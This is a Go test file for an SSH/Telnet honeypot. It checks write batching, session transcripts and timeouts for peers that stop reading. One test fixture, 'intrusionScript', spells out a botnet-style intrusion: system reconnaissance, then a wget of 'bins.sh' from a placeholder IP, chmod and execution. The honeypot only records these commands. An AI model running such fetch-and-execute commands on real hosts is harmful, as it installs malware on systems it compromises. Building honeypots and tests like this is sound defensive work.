package honeypot

import (
	"bytes"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
)

// Flights of a whole Telnet CMD+URI session, client driven prompt by
// prompt (so the count does not depend on when a fire-and-forget client's
// hang-up lands): the login's 3 + 2 (internal/telnet's TestFlightWrites),
// then [prompt], then per line one client Write and one server Write of
// [output + next prompt]; "exit" prints nothing. One run of the parent
// commit made 36 and 29 — prompt, output and every negotiation answer
// were Writes of their own, and the two sides re-acknowledged each
// other's options for as long as the session lasted.
const (
	sessionServerWrites = 3 + 1 + 6
	sessionClientWrites = 2 + 6 + 1
)

// intrusionScript is the six-line session the benchmark's wire_telnet_cmd
// workload and loadgen's CMD+URI scripts run.
var intrusionScript = []string{
	"uname -a",
	"cat /proc/cpuinfo",
	"free -m",
	"wget http://203.0.113.9/bins.sh",
	"chmod +x bins.sh",
	"./bins.sh",
}

// writeCountConn counts the Write calls made on a net.Conn.
type writeCountConn struct {
	net.Conn
	writes *atomic.Int64
}

func (c writeCountConn) Write(p []byte) (int, error) {
	c.writes.Add(1)
	return c.Conn.Write(p)
}

// readToPrompt returns what the pot says up to and including its next
// prompt, or up to the hang-up that follows exit. ReadByte flushes the
// line the caller has just queued.
func readToPrompt(c *telnet.Conn) string {
	var b strings.Builder
	for !strings.HasSuffix(b.String(), "# ") {
		x, err := c.ReadByte()
		if err != nil {
			break
		}
		b.WriteByte(x)
	}
	return b.String()
}

func TestTelnetSessionFlights(t *testing.T) {
	done := make(chan *SessionRecord, 1)
	pot, err := New(Config{Sink: func(r *SessionRecord) { done <- r }})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var serverWrites, clientWrites atomic.Int64
	go func() {
		nc, err := ln.Accept()
		if err != nil {
			return
		}
		pot.ServeTelnet(writeCountConn{nc, &serverWrites})
	}()
	nc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(10 * time.Second))

	c := telnet.NewConn(writeCountConn{nc, &clientWrites}, false)
	if ok, err := telnet.ClientLogin(c, "root", "1234"); err != nil || !ok {
		t.Fatalf("login ok=%v err=%v", ok, err)
	}
	readToPrompt(c)
	for _, line := range append(append([]string(nil), intrusionScript...), "exit") {
		if err := c.WriteString(line + "\r\n"); err != nil {
			t.Fatal(err)
		}
		readToPrompt(c)
	}
	rec := <-done
	if rec.Termination != TermExit || len(rec.Commands) != len(intrusionScript)+1 || len(rec.URIs) != 1 {
		t.Errorf("termination %v, %d commands, URIs %v", rec.Termination, len(rec.Commands), rec.URIs)
	}
	if s, c := serverWrites.Load(), clientWrites.Load(); s != sessionServerWrites || c != sessionClientWrites {
		t.Errorf("Writes: server %d, client %d; want %d and %d", s, c, sessionServerWrites, sessionClientWrites)
	}
}

// The session output of the commit before the writes were batched,
// byte for byte: batching moved where the Write boundaries fall and
// nothing else.
const (
	unameLine        = "Linux svr04 4.19.0-18-amd64 #1 SMP Debian 4.19.208-1 (2021-09-29) x86_64 GNU/Linux\r\n"
	sshTranscript    = "root@svr04:~# " + unameLine + "root@svr04:~# "
	telnetTranscript = "root@svr04:~# " + unameLine + "root@svr04:~# root@svr04:/tmp# root@svr04:/tmp# hi\r\nroot@svr04:/tmp# "
)

// tapConn keeps a copy of every byte read through it.
type tapConn struct {
	net.Conn
	read *bytes.Buffer
}

func (c tapConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.read.Write(p[:n])
	return n, err
}

// TestTranscriptsUnchanged pins, as the clients receive it, what the pot
// sends after the login: the SSH channel's data, the bytes on the Telnet
// socket, and what the Telnet client reads once it has decoded them.
func TestTranscriptsUnchanged(t *testing.T) {
	rig := newRig(t, Config{})

	rig.expect(1)
	nc, err := rig.fabric.Dial("203.0.113.60", rig.sshAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "pw"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	go func() {
		_, _ = sess.Write([]byte("uname -a\nexit\n"))
	}()
	got, _ := io.ReadAll(sess)
	cc.Close()
	rig.wait(t)
	if string(got) != sshTranscript {
		t.Errorf("ssh session = %q, want %q", got, sshTranscript)
	}

	// The same over Telnet, with a cd and a redirect.
	rig.expect(1)
	nc, err = rig.fabric.Dial("203.0.113.61", rig.telAddr)
	if err != nil {
		t.Fatal(err)
	}
	var wire bytes.Buffer
	c := telnet.NewConn(tapConn{nc, &wire}, false)
	if ok, err := telnet.ClientLogin(c, "root", "1234"); err != nil || !ok {
		t.Fatalf("login ok=%v err=%v", ok, err)
	}
	seen := readToPrompt(c)
	for _, line := range []string{"uname -a", "cd /tmp", "echo hi > x", "cat x", "exit"} {
		if err := c.WriteString(line + "\r\n"); err != nil {
			t.Fatal(err)
		}
		seen += readToPrompt(c)
	}
	nc.Close()
	rig.wait(t)
	// The session starts after the login's motd line.
	_, session, _ := strings.Cut(wire.String(), "Last login")
	_, session, _ = strings.Cut(session, "\n")
	if session != telnetTranscript {
		t.Errorf("telnet session on the wire = %q, want %q", session, telnetTranscript)
	}
	if seen != telnetTranscript {
		t.Errorf("telnet client saw %q, want %q", seen, telnetTranscript)
	}
}

// TestNeverReadingPeerTimesOut: a session whose peer stops reading ends
// inside its timeout as a timeout, before and after authentication. Over
// net.Pipe a Write blocks until the peer reads or the deadline passes,
// which is what a closed receive window does to a TCP socket. With only
// the read deadline armed each of these was pinned — goroutine, socket
// and filesystem — until the peer went away.
func TestNeverReadingPeerTimesOut(t *testing.T) {
	const timeout = 200 * time.Millisecond
	for _, tc := range []struct {
		name     string
		serve    func(*Honeypot, net.Conn)
		login    bool // log in first; the pot's next Write is the shell prompt
		loggedIn bool
	}{
		{"ssh before the identification line", (*Honeypot).ServeSSH, false, false},
		{"telnet before the banner", (*Honeypot).ServeTelnet, false, false},
		{"telnet at the prompt", (*Honeypot).ServeTelnet, true, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			done := make(chan *SessionRecord, 1)
			pot, err := New(Config{
				PreAuthTimeout: timeout, PostAuthTimeout: timeout,
				Sink: func(r *SessionRecord) { done <- r },
			})
			if err != nil {
				t.Fatal(err)
			}
			srv, cli := net.Pipe()
			defer cli.Close()
			go tc.serve(pot, srv)
			if tc.login {
				if ok, err := telnet.ClientLogin(telnet.NewConn(cli, false), "root", "1234"); err != nil || !ok {
					t.Fatalf("login ok=%v err=%v", ok, err)
				}
			}
			select {
			case rec := <-done:
				if rec.Termination != TermTimeout || rec.LoggedIn() != tc.loggedIn {
					t.Errorf("termination %v, logged in %v; want timeout, %v", rec.Termination, rec.LoggedIn(), tc.loggedIn)
				}
			case <-time.After(3 * time.Second):
				t.Fatalf("session still pinned 3 s after a %v timeout", timeout)
			}
		})
	}
}
